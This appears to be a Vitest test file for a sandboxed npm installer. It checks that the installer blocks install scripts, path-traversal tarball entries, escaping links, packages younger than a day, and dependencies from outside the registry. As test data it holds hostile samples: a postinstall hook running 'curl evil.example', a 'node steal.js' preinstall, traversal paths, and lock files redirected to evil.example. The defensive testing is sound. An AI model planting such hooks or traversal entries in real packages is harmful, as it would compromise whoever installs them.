import { describe, expect, it } from 'vitest'
import { createTestMachine } from './testing/machine'
import { createTestRegistry } from './testing/registry'

const manifest = (dependencies: Record<string, string> = {}) => ({ name: 'project', version: '1.0.0', dependencies })
const hoursAgo = (hours: number) => new Date(Date.now() - hours * 3_600_000)

describe('install scripts', () => {
  it('never run, and are named', async () => {
    const scripts = {
      preinstall: 'node steal.js',
      install: 'x',
      postinstall: 'curl evil.example',
      prepare: 'y',
      test: 'z',
    }
    const registry = createTestRegistry({ name: 'a', version: '1.0.0', manifest: { scripts } })
    const machine = await createTestMachine({ 'package.json': manifest() }, registry)
    const { stdout } = await machine.run('npm install a')
    expect(stdout).toContain('Install scripts never run in the sandbox; left out: a (preinstall, install, postinstall)')
    expect(machine.started).toEqual([])
  })
})

describe('tarballs', () => {
  it.each([
    ['a path out of the package', { path: 'package/../../../home/project/evil.js' }],
    ['an absolute path', { path: '/home/project/evil.js' }],
    ['a link to elsewhere', { path: 'package/evil', type: '2', linkTo: '../../package.json' }],
  ])('with %s are refused whole', async (_what, entry) => {
    const entries = [
      { path: 'package/package.json', text: '{"name":"a","version":"1.0.0"}' },
      { path: 'package/ok.js' },
      entry,
    ]
    const machine = await createTestMachine(
      { 'package.json': manifest() },
      createTestRegistry({ name: 'a', version: '1.0.0', entries }),
    )
    const { code, stderr } = await machine.run('npm install a')
    expect(code).toBe(1)
    expect(stderr).toMatch(/EBADARCHIVE\nnpm error a@1\.0\.0: “/)
    expect(machine.names('.')).toEqual(['package.json'])
  })

  it('with commands that lead out of the package give links into it', async () => {
    const bin = { '../../evil': 'x.js', good: 'x.js', climbs: '../../../package.json' }
    const registry = createTestRegistry({ name: 'a', version: '1.0.0', manifest: { bin }, files: { 'x.js': '' } })
    const machine = await createTestMachine({ 'package.json': manifest() }, registry)
    await machine.run('npm install a')
    expect(machine.names('node_modules/.bin')).toEqual(['climbs', 'evil', 'good'])
    expect(machine.json('node_modules/.bin/climbs')).toMatchObject({ name: 'a' })
    expect(machine.names('.')).toEqual(['node_modules', 'package-lock.json', 'package.json'])
  })
})

describe('versions younger than a day', () => {
  it('are passed over for the newest older one, with a sentence', async () => {
    const registry = createTestRegistry(
      { name: 'a', version: '1.0.0' },
      { name: 'a', version: '1.0.1', publishedAt: hoursAgo(1) },
    )
    const machine = await createTestMachine({ 'package.json': manifest() }, registry)
    const { code, stderr } = await machine.run('npm install a')
    expect(code).toBe(0)
    expect(machine.json('node_modules/a/package.json')).toMatchObject({ version: '1.0.0' })
    expect(stderr).toContain('younger than 24 hours and passed over: a@1.0.1 (took a@1.0.0). --allow-new takes them.')
    await machine.run('npm install a@latest --allow-new')
    expect(machine.json('node_modules/a/package.json')).toMatchObject({ version: '1.0.1' })
  })

  it('are refused when nothing else matches, also deep in the tree', async () => {
    const registry = createTestRegistry(
      { name: 'a', version: '1.0.0', manifest: { dependencies: { evil: '^3.0.0' } } },
      { name: 'evil', version: '3.0.0', publishedAt: hoursAgo(1.5) },
    )
    const machine = await createTestMachine({ 'package.json': manifest() }, registry)
    const { code, stderr } = await machine.run('npm install a')
    expect(code).toBe(1)
    expect(stderr).toMatch(/evil@3\.0\.0 was published 1 hour ago\. .*--allow-new/)
    expect(machine.names('node_modules')).toEqual([])
  })

  it('are not let in by a project’s own settings', async () => {
    const registry = createTestRegistry({ name: 'a', version: '1.0.0', publishedAt: hoursAgo(1) })
    const machine = await createTestMachine({ 'package.json': manifest(), '.npmrc': 'allow-new=true\n' }, registry)
    expect(await machine.run('npm install a')).toMatchObject({ code: 1, stderr: expect.stringContaining('ETOOYOUNG') })
  })

  it('are refused when a lock file names them', async () => {
    const registry = createTestRegistry({ name: 'a', version: '1.0.0', publishedAt: hoursAgo(1) })
    const machine = await createTestMachine({ 'package.json': manifest() }, registry)
    await machine.run('npm install a --allow-new')
    expect(await machine.run('npm ci --allow-new')).toMatchObject({ code: 0 })
    expect(await machine.run('npm ci')).toMatchObject({ code: 1, stderr: expect.stringContaining('ETOOYOUNG') })
  })

  it('are found by the metadata where the registry dates no tarballs', async () => {
    const registry = createTestRegistry({ name: 'a', version: '1.0.0', publishedAt: hoursAgo(1) })
    const machine = await createTestMachine(
      { 'package.json': manifest() },
      {
        ...registry,
        fetchPackage: async (request) => ({ ...(await registry.fetchPackage(request)), publishedAt: null }),
      },
    )
    await machine.run('npm install a --allow-new')
    expect(await machine.run('npm ci')).toMatchObject({ code: 1, stderr: expect.stringContaining('ETOOYOUNG') })
  })
})

describe('what does not come from the registry', () => {
  it.each([
    ['github:user/repo', 'is a git repository, and the sandbox reaches none'],
    ['git+ssh://git@example.org/x.git', 'is a git repository, and the sandbox reaches none'],
    ['https://evil.example/x.tgz', 'is an address outside the registry, where the sandbox reaches nothing'],
    ['file:../../etc/x.tgz', 'There is no tarball at /etc/x.tgz'],
  ])('is refused: %s', async (spec, why) => {
    const registry = createTestRegistry()
    const machine = await createTestMachine({ 'package.json': manifest({ x: spec }) }, registry)
    expect(await machine.run('npm install')).toMatchObject({
      code: 1,
      stderr: expect.stringContaining(why),
    })
    expect(registry.asked).toEqual([])
  })

  it('is refused in a lock file, and only the file name of an address counts', async () => {
    const registry = createTestRegistry({ name: 'a', version: '1.0.0' })
    const machine = await createTestMachine({ 'package.json': manifest() }, registry)
    await machine.run('npm install a')
    const lock = machine.read('package-lock.json') ?? ''
    machine.write('package-lock.json', lock.replace('https://registry.example/a/-/', 'https://evil.example/any/where/'))
    registry.asked.length = 0
    expect(await machine.run('npm ci')).toMatchObject({ code: 0 })
    expect(new Set(registry.asked)).toEqual(new Set(['a/-/a-1.0.0.tgz']))
    machine.write('package-lock.json', lock.replace('https://registry.example', 'git+ssh://git@evil.example'))
    expect(await machine.run('npm ci')).toMatchObject({ code: 1 })
  })
})
